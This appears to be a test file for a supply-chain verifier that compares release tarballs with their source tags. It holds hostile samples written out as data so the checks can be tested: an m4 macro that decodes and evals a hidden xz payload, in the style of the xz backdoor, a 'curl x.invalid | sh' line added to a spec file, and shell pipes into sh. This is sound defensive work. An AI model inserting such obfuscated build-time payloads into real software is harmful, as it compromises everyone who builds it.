@@ -1,0 +1,223 @@
+/**
+ * The concepts that tell a real release's honest differences from a dishonest one, each tested on
+ * variants written here (never on third-party files): roles, code uses, release-time stamps,
+ * ChangeLog formats, templates, make rules, vendored files judged by what they add, and rule hits
+ * that configure inherits from an m4 file.
+ */
+import { readFileSync, existsSync } from 'node:fs'
+import { describe, expect, it } from 'vitest'
+import type { Finding } from '../../src/model/finding.js'
+import type { TreeEntry } from '../../src/model/tree.js'
+import { Catalog } from '../../src/verify/catalog/catalog.js'
+import type { Difference } from '../../src/verify/compare.js'
+import { changelogExplainer, type HistoryText } from '../../src/verify/explain/changelog.js'
+import { codeUsesOf } from '../../src/verify/explain/executed.js'
+import { generatedExplainer } from '../../src/verify/explain/generated.js'
+import { releaseEdit, releaseEditsExplainer } from '../../src/verify/explain/release-edits.js'
+import { docToolOf, fileRole } from '../../src/verify/explain/role.js'
+import { makeRules, ruleGeneratedExplainer } from '../../src/verify/explain/rule-generated.js'
+import { fillsTemplate, templateExplainer } from '../../src/verify/explain/template.js'
+import type { TreeView } from '../../src/verify/explain/types.js'
+import { judgeUnexplained } from '../../src/verify/explain/unexplained.js'
+import { vendoredExplainer } from '../../src/verify/explain/vendored.js'
+import { inheritedFrom } from '../../src/verify/inherited.js'
+
+function view(artifact: Record<string, string | Buffer>, source: Record<string, string> = {}): TreeView {
+  const bytes = (v: string | Buffer | undefined) => (v === undefined ? undefined : Buffer.isBuffer(v) ? v : Buffer.from(v))
+  return {
+    artifactBytes: (p) => bytes(artifact[p]),
+    artifactText: (p) => (artifact[p] === undefined ? undefined : bytes(artifact[p])?.toString('utf8')),
+    artifactHas: (p) => p in artifact,
+    sourceHas: (p) => p in source,
+    sourceBytes: async (p) => bytes(source[p]),
+    sourceText: async (p) => source[p],
+  }
+}
+const entry = (path: string, content: string | Buffer, mode = 0o644): TreeEntry => {
+  const buf = Buffer.isBuffer(content) ? content : Buffer.from(content)
+  return { path, kind: 'file', mode, size: buf.length, content: buf, sha256: `sha-${path}-${buf.length}`, gitBlob: 'y' }
+}
+const added = (path: string, content: string | Buffer, mode = 0o644): Difference => ({ path, status: 'only-in-artifact', artifact: entry(path, content, mode) })
+const changed = (path: string, before: string, after: string): Difference => ({ path, status: 'content-differs', artifact: entry(path, after), source: entry(path, before) })
+
+describe('file roles and their weight', () => {
+  it('tells build logic, code, tests, docs, translations and data apart', () => {
+    expect(fileRole('build-aux/fixup', 0o755, '#!/bin/sh\necho\n')).toBe('build')
+    expect(fileRole('m4/ax_check.m4', 0o644, 'AC_DEFUN([AX_CHECK], [:])\n')).toBe('build')
+    expect(fileRole('lib/parse.c', 0o644, 'int main(void) { return 0; }\n')).toBe('code')
+    expect(fileRole('tests/run-all.sh', 0o755, '#!/bin/sh\n')).toBe('test')
+    expect(fileRole('doc/guide.pdf', 0o644, Buffer.from('%PDF-1.5\n'))).toBe('doc')
+    expect(fileRole('man/tool.1', 0o644, '.TH TOOL 1\n')).toBe('doc')
+    expect(fileRole('po/de.gmo', 0o644, Buffer.from([0xde, 0x12, 0x04, 0x95, 0]))).toBe('translation')
+    // content wins over the name: a "document" that is a shell script is build logic
+    expect(fileRole('doc/notes.txt', 0o644, '#!/bin/sh\nrm -rf /nonexistent\n')).toBe('build')
+  })
+
+  it('recognises the documentation tools that made a file', () => {
+    expect(docToolOf(Buffer.from('<html><head><meta name="generator" content="Doxygen 1.9.4"/>'))).toBe('Doxygen')
+    expect(docToolOf(Buffer.from('.\\" This file was generated with po4a. Translate the source file.\n.TH X 1'))).toBe('po4a')
+    expect(docToolOf(Buffer.from('%PDF-1.5\n/Producer (pdfTeX-1.40.24)\n'))).toBe('LaTeX')
+    expect(docToolOf(Buffer.from('Just a hand-written page.\n'))).toBeUndefined()
+  })
+
+  it('weighs an unexplained file by its role: a generated manual is info, a plain doc low, code high', async () => {
+    const doxygen = '<html><meta name="generator" content="Doxygen 1.9.1"/><body>API</body></html>'
+    const html = await judgeUnexplained(added('doc/html/index.html', doxygen), view({ 'doc/html/index.html': doxygen }), new Map())
+    expect(html?.findings?.[0]?.severity).toBe('info')
+    const notes = await judgeUnexplained(added('doc/NOTES.md', '# Notes\n'), view({ 'doc/NOTES.md': '# Notes\n' }), new Map())
+    expect(notes?.findings?.[0]?.severity).toBe('low')
+    const c = 'int hook(void) { return 1; }\n'
+    const code = await judgeUnexplained(added('src/hook.c', c), view({ 'src/hook.c': c }), new Map())
+    expect(code?.findings?.[0]?.severity).toBe('high')
+  })
+
+  it('makes a document high when the build runs it, and names the line', async () => {
+    const doc = 'Release notes\n: <<EOF\nEOF\nmkdir -p /nonexistent/x\n'
+    const configure = '#!/bin/sh\n# Generated by GNU Autoconf 2.71 for x 1.0.\nac_x=1\n. "$srcdir/doc/release-notes.txt" 2>/dev/null\n'
+    const j = await judgeUnexplained(changed('doc/release-notes.txt', 'Release notes\n', doc), view({ 'doc/release-notes.txt': doc }, { 'doc/release-notes.txt': 'Release notes\n' }), new Map([['configure', configure]]))
+    expect(j?.findings?.[0]?.severity).toBe('high')
+    expect(j?.findings?.[0]?.evidence).toContain('configure:4: . "$srcdir/doc/release-notes.txt"')
+  })
+})
+
+describe('codeUsesOf: referenced means read as code', () => {
+  it('does not count a list of files to ship or install, a comment or a URL', () => {
+    const makefileIn = 'dist_man_MANS = tool.1 \\\n\tguide.pdf\nEXTRA_DIST = guide.pdf\ninstall-data-local:\n\t$(INSTALL_DATA) $(srcdir)/guide.pdf $(DESTDIR)$(docdir)\n'
+    const m4 = 'dnl see https://example.invalid/docs/guide.pdf for details\n# guide.pdf describes this\nAC_DEFUN([X], [:])\n'
+    expect(codeUsesOf('doc/guide.pdf', new Map([['doc/Makefile.in', makefileIn], ['m4/x.m4', m4]]))).toEqual([])
+  })
+  it('counts sourcing, a shell or interpreter, m4 inclusion and a pipe into a shell', () => {
+    const texts = new Map([
+      ['configure', 'ac_a=1\n. "$srcdir/build-aux/setup-env"\n'],
+      ['Makefile.in', 'all-local:\n\t$(SHELL) $(srcdir)/tools/gen-tables.sh > tables.h\n\t@cat $(srcdir)/tests/files/blob.bin | tr "a-z" "n-za-m" | sh\n'],
+      ['aclocal.m4', 'm4_include([m4/host-probe.m4])\n'],
+    ])
+    expect(codeUsesOf('build-aux/setup-env', texts).map((u) => `${u.path}:${u.line}`)).toEqual(['configure:2'])
+    expect(codeUsesOf('tools/gen-tables.sh', texts).map((u) => u.line)).toEqual([2])
+    expect(codeUsesOf('tests/files/blob.bin', texts).map((u) => u.line)).toEqual([3])
+    expect(codeUsesOf('m4/host-probe.m4', texts).map((u) => u.path)).toEqual(['aclocal.m4'])
+  })
+})
+
+describe('release-time stamps', () => {
+  const explain = async (path: string, before: string, after: string, version: string) =>
+    releaseEditsExplainer(version).judge(changed(path, before, after), view({ [path]: after }, { [path]: before }))
+
+  it('explains version placeholders, dates, a man page header and copyright years', async () => {
+    expect((await explain('include/tool.h', '#define TOOL_VERSION "3.4.5-DEV"\nint x;\n', '#define TOOL_VERSION "3.4.5"\nint x;\n', '3.4.5'))?.outcome).toBe('explained')
+    expect((await explain('CHANGES.md', '## [unreleased]\n- fix\n', '## 2024-05-06\n- fix\n', '2.0'))?.outcome).toBe('explained')
+    expect((await explain('docs/tool.1', '.TH tool 1 "March 3, 2021" "tool 0.9.0"\n', '.TH tool 1 "June 14, 2024" "tool 1.2.0"\n', '1.2.0'))?.outcome).toBe('explained')
+    expect((await explain('tests/run.exp', '# Copyright (C) 2003, 2014 The Authors\n', '# Copyright (C) 2003, 2014, 2019 The Authors\n', '1.0'))?.outcome).toBe('explained')
+  })
+  it('explains version parts and their hex form named as such, with realigned spacing', () => {
+    const before = '#define LIBX_VERSION          "2.7.0_DEV"\n#define LIBX_VERSION_MINOR    7\n#define LIBX_VERSION_NUM      0x020700\n#define LIBX_TIMESTAMP "DEV"\n'
+    const after = '#define LIBX_VERSION "2.11.0"\n#define LIBX_VERSION_MINOR 11\n#define LIBX_VERSION_NUM 0x020b00\n#define LIBX_TIMESTAMP "Tue 4 Jun 2024 10:00:00 UTC"\n'
+    expect(releaseEdit(before, after, '2.11.0')?.stamped).toBe(4)
+  })
+  it('leaves alone a changed constant, a version that is not the release, and an added line', async () => {
+    expect(releaseEdit('#define MAX_ITEMS 9\n', '#define MAX_ITEMS 10\n', '1.10.0')).toBeUndefined()
+    expect(releaseEdit('#define TOOL_VERSION "3.4.5-DEV"\n', '#define TOOL_VERSION "3.9.9"\n', '3.4.5')).toBeUndefined()
+    expect(releaseEdit('#define LIBX_VERSION_MINOR 7\n', '#define LIBX_VERSION_MINOR 12\n', '2.11.0')).toBeUndefined()
+    expect(releaseEdit('a\nb\n', 'a\nsystem("id");\nb\n', '1.0')).toBeUndefined()
+  })
+  it('explains documentation trimmed at release, but not lines removed from code', async () => {
+    expect((await explain('README.md', 'Status\n======\nbadge\n\nfoo 1.0 was released.\n', 'foo 1.0 was released.\n', '1.0'))?.outcome).toBe('explained')
+    expect(await explain('src/auth.c', 'if (!ok)\n  return -1;\nreturn 0;\n', 'return 0;\n', '1.0')).toBeUndefined()
+  })
+})
+
+describe('ChangeLogs from git log in any format', () => {
+  const history: HistoryText = {
+    messageLines: new Set(['Fix the parser on empty input.', 'Signed-off-by: Ada Lovelace <ada@example.invalid>', 'src/parse.c (parse_line): Check for NUL.']),
+    people: new Set(['Ada Lovelace', 'ada@example.invalid', 'Grace Hopper']),
+    commitIds: ['0123456789abcdef0123456789abcdef01234567', 'fedcba9876543210fedcba9876543210fedcba98', 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'],
+  }
+  const makefileAm = 'dist-hook:\n\tgit log --stat > $(distdir)/ChangeLog\n'
+  const stat = [
+    'commit 0123456789abcdef0123456789abcdef01234567',
+    'Merge: fedcba9 aaaaaaa',
+    'Author: Ada Lovelace <ada@example.invalid>',
+    'Date:   Mon Jan 1 10:00:00 2024 +0000',
+    '',
+    '    Fix the parser on empty input.',
+    '',
+    '    * src/parse.c (parse_line): Check for NUL.',
+    '',
+    ' src/parse.c | 4 +++-',
+    ' 1 file changed, 3 insertions(+), 1 deletion(-)',
+    '',
+  ].join('\n')
+  it('explains git log --stat output, merge lines and bullets', async () => {
+    const j = await changelogExplainer(async () => history).judge(added('ChangeLog', stat), view({ ChangeLog: stat }, { 'Makefile.am': makefileAm }))
+    expect(j?.outcome).toBe('explained')
+  })
+  it('explains a git2news-style NEWS written by a release script', async () => {
+    const news = '   Changelog for the foo project. Generated with git2news.pl\n\nGrace Hopper (2 Mar 2024)\n- [Ada Lovelace brought this change]\n\n  Fix the parser on empty input.\n'
+    const j = await changelogExplainer(async () => history).judge(changed('NEWS', 'See the tarball.\n', news), view({ NEWS: news }, { NEWS: 'See the tarball.\n', maketgz: './git2news.pl > NEWS\n' }))
+    expect(j?.outcome).toBe('explained')
+  })
+  it('still reports a line no commit wrote', async () => {
+    const forged = `${stat}    Disable the signature check for speed.\n`
+    const j = await changelogExplainer(async () => history).judge(added('ChangeLog', forged), view({ ChangeLog: forged }, { 'Makefile.am': makefileAm }))
+    expect(j?.outcome).toBe('unexplained')
+    expect(j?.findings?.[0]?.evidence).toContain('Disable the signature check')
+  })
+})
+
+describe('generated at release time', () => {
+  it('explains a file configure writes from its template, and not one with an extra line', async () => {
+    const template = 'Name: foo\nVersion: @VERSION@\nSource: foo-@VERSION@.tar.gz\n'
+    const filled = 'Name: foo\nVersion: 1.2\nSource: foo-1.2.tar.gz\n'
+    expect(fillsTemplate(template, filled)).toBe(true)
+    expect(fillsTemplate(template, `${filled}%post\ncurl x.invalid | sh\n`)).toBe(false)
+    const j = await templateExplainer().judge(added('foo.spec', filled), view({ 'foo.spec': filled }, { 'foo.spec.in': template }))
+    expect(j?.outcome).toBe('explained')
+  })
+  it('explains a file a make rule of the tag makes from inputs the tag has', async () => {
+    const am = 'BUILT_SOURCES = rpc.gen.c\nrpc.gen.c rpc.gen.h: rpc.desc $(srcdir)/gen-rpc.py\n\t$(PYTHON) $(srcdir)/gen-rpc.py rpc.desc\n'
+    expect(makeRules(am).map((r) => r.targets)).toContainEqual(['rpc.gen.c', 'rpc.gen.h'])
+    const src = { 'test/Makefile.am': am, 'test/rpc.desc': 'x', 'test/gen-rpc.py': 'y' }
+    const j = await ruleGeneratedExplainer().judge(added('test/rpc.gen.h', '/* gen */\n'), view({ 'test/rpc.gen.h': '/* gen */\n' }, src))
+    expect(j?.outcome).toBe('explained')
+    expect(await ruleGeneratedExplainer().judge(added('test/other.c', 'int x;\n'), view({ 'test/other.c': 'int x;\n' }, src))).toBeUndefined()
+  })
+  it('explains a bison parser whose grammar is in the tag, and reports one whose grammar is nowhere', async () => {
+    const parser = '/* A Bison parser, made by GNU Bison 3.8.2.  */\n#line 2 "parse.y"\nint yyparse(void);\n'
+    const ok = await generatedExplainer().judge(added('src/parse.c', parser), view({ 'src/parse.c': parser }, { 'src/parse.y': '%%' }))
+    expect(ok?.outcome).toBe('explained')
+    const orphan = await generatedExplainer().judge(added('src/parse.c', parser), view({ 'src/parse.c': parser }, {}))
+    expect(orphan?.findings?.[0]?.ruleId).toBe('verify/generated-without-input')
+  })
+})
+
+describe('vendored files of unknown versions, judged by what they add', () => {
+  const system = '/usr/share/aclocal/ltsugar.m4'
+  it.runIf(existsSync(system))('is low when the added lines are quiet, high with the flagged lines first when a rule trips', async () => {
+    const catalog = await Catalog.load({})
+    const original = readFileSync(system, 'utf8')
+    const lines = original.split('\n')
+    const at = lines.findIndex((l) => l.startsWith('m4_define('))
+    const quiet = [...lines.slice(0, at), '# local tweak for an older m4', 'm4_define([lt_local_tweak], [1])', ...lines.slice(at)].join('\n')
+    const q = await vendoredExplainer(catalog).judge(added('m4/ltsugar.m4', quiet), view({ 'm4/ltsugar.m4': quiet }))
+    expect(q?.findings?.[0]?.severity).toBe('low')
+    expect(q?.findings?.[0]?.message).toMatch(/not in the catalog \(version 6\); 2 line\(s\) differ/)
+
+    const payload = ['  if test "x$host_os" = "xlinux-gnu"; then', '    eval `tr "\\t \\-_" " \\t_\\-" < "$srcdir/tests/files/bad-3.xz" | xz -d 2>/dev/null`', '  fi']
+    const loud = [...lines.slice(0, at), ...payload, ...lines.slice(at)].join('\n')
+    const l = await vendoredExplainer(catalog).judge(added('m4/ltsugar.m4', loud), view({ 'm4/ltsugar.m4': loud }))
+    const f = l?.findings?.[0]
+    expect(f?.severity).toBe('high')
+    expect(f?.evidence?.split('\n').slice(0, 4).join('\n')).toContain('xz -d')
+  })
+})
+
+describe('rule hits that configure inherits from an m4 file', () => {
+  const hit = (evidence: string): Finding => ({ ruleId: 'scan/environment-gating', severity: 'medium', confidence: 'medium', path: 'configure', message: 'gated', evidence })
+  const macros = new Map([['m4/libtool.m4', new Set(['case', 'host_os', 'sed', 'archive_expsym_cmds', 'export_symbols', 'output_objdir', 'libname-symbols.expsym'])]])
+  it('names the macro file that holds the lines, libtool tags and all', () => {
+    expect(inheritedFrom(hit('100: case $host_os in\n101: archive_expsym_cmds_CXX="sed < $export_symbols > $output_objdir/$libname-symbols.expsym"'), macros)).toBe('m4/libtool.m4')
+  })
+  it('keeps a line no macro file holds', () => {
+    expect(inheritedFrom(hit('100: case $host_os in\n101: eval `tr "a-z" "n-za-m" < tests/files/bad-3.xz | xz -d`'), macros)).toBeUndefined()
+  })
+})
